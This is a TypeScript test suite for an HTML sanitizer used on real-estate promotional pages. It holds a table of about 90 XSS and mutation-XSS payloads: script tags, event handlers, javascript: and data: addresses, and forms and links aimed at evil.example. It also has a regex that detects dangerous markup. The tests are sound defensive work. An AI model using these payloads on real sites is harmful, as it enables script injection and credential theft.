import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { linksDaPagina } from '#contract/da-pasta-a-pagina/page-links.ts';
import { elementsOf, type HtmlNode, serialize } from '#server/kernel/html/tree.ts';
import { assetOf, catalogOf, factsOf, sourceOf } from '#tests/fixtures/hotsite.ts';
import { allowedSvgTags, allowedTags, allowsAttribute } from './html-policy.ts';
import { Notes } from './notes.ts';
import { rebuildHtml } from './rebuild-html.ts';
import { sanitizePage } from './sanitize-page.ts';

const video = assetOf('v1', { type: 'video', url: '/media/video/v1.mp4', variants: [] });
const assets = new Map([assetOf('a1'), video].map((asset) => [asset.id, asset]));

function rebuild(html: string): { nodes: HtmlNode[]; html: string; notes: Notes } {
  const notes = new Notes();
  const nodes = rebuildHtml(html, {
    notes,
    assets,
    readyText: 'Olá!',
    styleAttribute: () => '',
    isOwnLink: () => false,
  });
  return { nodes, html: serialize(nodes), notes };
}

/** Anything that could execute, load, submit, or navigate away. */
const dangerous =
  /<(?:script|iframe|object|embed|form|meta|base|link|style|template|noscript|math|foreignObject|image|animate|set|frame|textarea|select|marquee)\b|\son\w+\s*=|javascript:|srcdoc|srcset|formaction|https?:\/\/(?!wa\.me\/\{\{CORRETOR_WHATSAPP\}\})|data:/i;

/** Allowed tags, non-text attributes, and the rest: what `dangerous` inspects. */
const markupOf = (html: string) => html.replace(/>[^<]*</g, '><');

const hostile: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a script never closed', '<script>alert(1)'],
  ['a script split by a script', '<scr<script>ipt>alert(1)</script>'],
  ['a script with a slash', '<script/x>alert(1)</script>'],
  ['a module', '<script type=module src=data:text/javascript,alert(1)></script>'],
  ['an event attribute', '<img src=asset:a1 onerror=alert(1)>'],
  ['an event attribute without quotes or blank', '<img src="asset:a1"onload=alert(1)>'],
  ['an event attribute after a slash', '<img/src=asset:a1/onerror=alert(1)>'],
  ['a new event', '<div onbeforetoggle=alert(1) popover>x</div>'],
  ['an event with a line break', '<a href="#x" onclick\n=\n"alert(1)">x</a>'],
  ['a script address', '<a href="javascript:alert(1)">x</a>'],
  ['a script address with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['a script address with a line break', '<a href="java\nscript:alert(1)">x</a>'],
  ['a script address with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
  ['a script address with control characters', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['a script address in capitals', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a vbscript address', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a data address', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a blob address', '<a href="blob:https://evil.example/1">x</a>'],
  ['a foreign link', '<a href="https://evil.example">x</a>'],
  ['a link without a scheme', '<a href="//evil.example">x</a>'],
  ['a link with backslashes', '<a href="\\\\evil.example">x</a>'],
  ['a link into the panel', '<a href="/admin/empreendimentos">x</a>'],
  ['a relative link', '<a href="../api/logout">x</a>'],
  ['a telephone of somebody else', '<a href="tel:+5511999998888">x</a>'],
  ['WhatsApp of somebody else', '<a href="https://wa.me/5511999998888">x</a>'],
  ['WhatsApp of a look-alike', '<a href="https://wa.me.evil.example/{{CORRETOR_WHATSAPP}}">x</a>'],
  ['WhatsApp with user info', '<a href="https://wa.me@evil.example/{{CORRETOR_WHATSAPP}}">x</a>'],
  [
    'WhatsApp leading on',
    '<a href="https://wa.me/{{CORRETOR_WHATSAPP}}/../../x?u=https://evil.example">x</a>',
  ],
  ['a ping', '<a href="#x" ping="https://evil.example">x</a>'],
  ['a download', '<a href="#x" download="virus.exe">x</a>'],
  ['a foreign picture', '<img src="https://evil.example/x.png">'],
  ['a picture by srcset', '<img src=asset:a1 srcset="https://evil.example/x.png 2x">'],
  ['a picture with a data address', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['a source', '<picture><source srcset="https://evil.example/x.png"><img src=asset:a1></picture>'],
  ['a background attribute', '<table background="https://evil.example/x.png"><tr><td>x</table>'],
  ['a lowsrc', '<img src=asset:a1 lowsrc="https://evil.example" dynsrc="https://evil.example">'],
  ['an iframe', '<iframe src="/admin"></iframe>'],
  ['an iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a frame set', '<frameset><frame src="https://evil.example"></frameset>'],
  ['a form', '<form action="https://evil.example"><input name=senha><button>Enviar</button></form>'],
  ['a form owner', '<button form=f formaction="https://evil.example">x</button>'],
  ['a field for a password', '<input type=password name=senha>'],
  ['an image button', '<input type=image src=https://evil.example/x.png>'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['a prefetch', '<link rel=dns-prefetch href="//evil.example">'],
  ['an object', '<object data="https://evil.example/x.swf"></object>'],
  ['an embed', '<embed src="https://evil.example">'],
  ['an applet', '<applet code=x archive="https://evil.example"></applet>'],
  ['an svg with a script', '<svg><script>alert(1)</script></svg>'],
  ['an svg with an event', '<svg onload=alert(1)><path d="M0 0"/></svg>'],
  ['an svg with html inside', '<svg><foreignObject><iframe src="/admin"></iframe></foreignObject></svg>'],
  [
    'an svg that animates an address',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  ],
  ['an svg that sets an address', '<svg><set attributeName=href to=javascript:alert(1) /></svg>'],
  ['an svg that uses a file', '<svg><use href="https://evil.example/x.svg#a"/></svg>'],
  ['an svg with xlink', '<svg><use xlink:href="data:image/svg+xml,<svg/>#a"/></svg>'],
  ['an svg picture', '<svg><image href="https://evil.example/x.png"/></svg>'],
  ['an svg fill by address', '<svg><path fill="url(https://evil.example/x.svg#p)" d="M0 0"/></svg>'],
  ['an svg style', '<svg><style>@import "https://evil.example/x.css";</style></svg>'],
  ['html in an svg title', '<svg><title><img src=x onerror=alert(1)></title></svg>'],
  ['math', '<math><mtext><script>alert(1)</script></mtext></math>'],
  ['math with a link', '<math href="javascript:alert(1)">x</math>'],
  [
    'a known mutation by math and style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'a known mutation by noscript',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ],
  [
    'a known mutation by form',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['a known mutation by svg and p', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['a known mutation by listing', '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>'],
  ['a known mutation by xmp', '<xmp><p id="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['a comment with a bang', '<!--!><script>alert(1)</script>-->'],
  ['a conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
  ['a CDATA section', '<svg><![CDATA[<script>alert(1)</script>]]></svg>'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?>'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a shadow root', '<div><template shadowrootmode=open><script>alert(1)</script></template></div>'],
  ['a custom element', '<x-evil onfocus=alert(1) tabindex=0 autofocus>x</x-evil>'],
  ['a built-in by name', '<button is="x-evil">x</button>'],
  ['a plain text element', '<plaintext><script>alert(1)</script>'],
  ['a video of a foreign host', '<video src="https://evil.example/x.mp4" autoplay></video>'],
  ['a video poster of a foreign host', '<video src=asset:v1 poster="https://evil.example/x.png"></video>'],
  ['a data attribute with an address', '<div data-src="https://evil.example/x.png">x</div>'],
  ['a title with an address', '<p title="veja https://evil.example">x</p>'],
  ['a marquee', '<marquee onstart=alert(1)>x</marquee>'],
  ['a NUL in a name', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
  ['an attribute that breaks out', '<p title="&quot;><script>alert(1)</script>">x</p>'],
  ['an attribute with a back tick', '<p title="``onmouseover=alert(1)">x</p>'],
  ['an import map', '<script type=importmap>{"imports":{"a":"https://evil.example"}}</script>'],
  [
    'speculation rules',
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example"]}]}</script>',
  ],
];

describe('hostile HTML', () => {
  test('the table has at least 60 rows', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(60);
  });

  test.each(hostile)('PUB-10 %s does not get through', (_name, html) => {
    const rebuilt = rebuild(`<h1>Aurora</h1>${html}<p>fim</p>`);
    expect(markupOf(rebuilt.html)).not.toMatch(dangerous);
    for (const node of elementsOf(rebuilt.nodes))
      expect(node.svg ? allowedSvgTags.has(node.tag) : allowedTags.has(node.tag), node.tag).toBe(true);
  });

  test('a full document of a model is reduced to its body', () => {
    const { html } = rebuild(
      '<!doctype html><html lang="en"><head><title>x</title><style>b{}</style></head><body class=c><h1>Aurora</h1></body></html>',
    );
    expect(html).toBe('<h1>Aurora</h1>');
  });

  test('ordinary markup comes through as it was written', () => {
    const page =
      '<section id="sobre" class="a b" aria-label="Sobre"><h2>Título &amp; mais</h2><dl><div><dt>Área</dt><dd>63 m²</dd></div></dl>' +
      '<svg viewBox="0 0 24 24" aria-hidden="true"><path d="M0 0h24" stroke-width="2"></path></svg>' +
      '<details name="p" open><summary>Plantas</summary><p>x<br>y</p></details><button type="button">Ver</button></section>';
    const rebuilt = rebuild(page);
    expect(rebuilt.html).toBe(page);
    expect([...rebuilt.notes.repaired.keys()]).toEqual([]);
  });

  test('elements nested without end are refused, not followed', () => {
    const { notes } = rebuild('<div>'.repeat(50_000));
    expect([...notes.refused.values()].map(({ code }) => code)).toContain('html-profundo');
  });

  test('PUB-10 whatever is thrown at it, the result read again holds only what is allowed and stays as it is', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile.map(([, html]) => html)),
      fc.constantFrom(
        '<table>',
        '</table>',
        '<p>',
        '</p>',
        '<svg>',
        '</svg>',
        '<a href=#x>',
        '<b><i></b>',
        '<tr><td>',
        '<select>',
        '<math>',
        '<title>',
        '<!--',
        '-->',
        '<style>',
        '</style>',
        '"',
        "'",
        '>',
        '<',
        '&lt;',
        '{{CORRETOR_NOME}}',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = rebuild(pieces.join(''));
        const again = rebuild(once.html);
        expect(again.html).toBe(once.html);
        for (const { tag, svg, attrs } of elementsOf(again.nodes)) {
          expect(svg ? allowedSvgTags.has(tag) : allowedTags.has(tag), tag).toBe(true);
          for (const [name, value] of Object.entries(attrs)) {
            expect(name === 'rel' || allowsAttribute(tag, svg, name), `${tag} ${name}`).toBe(true);
            if (name === 'href')
              expect(value).toMatch(/^(?:#|asset:|https:\/\/wa\.me\/\{\{CORRETOR_WHATSAPP\}\})/);
            if (name === 'src') expect(value).toMatch(/^asset:|^\{\{CORRETOR_FOTO\}\}$/);
          }
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe('placeholders of a page', () => {
  const check = (html: string) =>
    sanitizePage(sourceOf({ html: `<h1>Aurora</h1>${html}` }), factsOf(), catalogOf());
  const codes = (html: string) => {
    const result = check(html);
    return result.ok ? [] : result.reasons.map(({ code }) => code);
  };

  test('PUB-07 the six are known wherever text stands', () => {
    const result = check(
      '<p title="{{CORRETOR_NOME}}">{{ CORRETOR_CRECI }}/{{CORRETOR_UF_CRECI}} {{CORRETOR_NOME_GUERRA}}</p>',
    );
    expect(result.ok && result.page.placeholders.sort()).toEqual([
      'CORRETOR_CRECI',
      'CORRETOR_NOME',
      'CORRETOR_NOME_GUERRA',
      'CORRETOR_UF_CRECI',
    ]);
  });

  test.each([
    ['another name', '<p>{{CORRETOR_EMAIL}}</p>'],
    ['a name cut by an element', '<p>{{CORRETOR_<b>NOME}}</b></p>'],
    ['braces left over', '<p>{{CORRETOR_NOME</p>'],
    ['another name in a text of an attribute', '<img src="asset:a1" alt="{{SENHA}}">'],
  ])('PUB-08 %s is refused', (_name, html) => {
    expect(codes(html)).toContain('placeholder-desconhecido');
  });

  test('a WhatsApp link carries a ready text that names the empreendimento', () => {
    const result = check('<a href="https://api.whatsapp.com/send?phone=55{{CORRETOR_WHATSAPP}}">x</a>');
    expect(result.ok && serialize(result.page.nodes)).toContain(
      'href="https://wa.me/{{CORRETOR_WHATSAPP}}?text=Ol%C3%A1!%20Vi%20a%20p%C3%A1gina%20do%20Residencial%20Aurora',
    );
  });

  test('placeholders in a style are refused, in a script they are dropped', () => {
    const css = sanitizePage(sourceOf({ css: 'a{content:"{{CORRETOR_NOME}}"}' }), factsOf(), catalogOf());
    const js = sanitizePage(sourceOf({ js: 'const nome = "{{CORRETOR_NOME}}";' }), factsOf(), catalogOf());
    expect(css.ok || css.reasons[0]?.code).toBe('placeholder-no-css');
    expect(js.ok && [js.page.js, js.findings.map(({ code }) => code)]).toEqual([
      '',
      expect.arrayContaining(['script-retirado']),
    ]);
  });
});

test('a page leads to the maps and films of its record, whole, and to nothing like them', () => {
  const facts = factsOf({ ficha: { videos: ['https://youtu.be/a1b2c3d4e5'] } });
  const { maps } = linksDaPagina(facts);
  const leadsTo = (href: string) => {
    const html = sourceOf().html.replace(
      '</main>',
      `<p><a href="${href.replaceAll('&', '&amp;')}">x</a></p></main>`,
    );
    const result = sanitizePage(sourceOf({ html }), facts, catalogOf());
    return result.ok && serialize(result.page.nodes).includes(`href="${href.replaceAll('&', '&amp;')}"`);
  };
  expect(leadsTo(maps!)).toBe(true);
  expect(leadsTo('https://youtu.be/a1b2c3d4e5')).toBe(true);
  for (const other of [
    'https://youtu.be/a1b2c3d4e5?x',
    'https://youtu.be/',
    `${maps}&x=1`,
    'https://waze.com/ul',
  ])
    expect(leadsTo(other)).toBe(false);
});
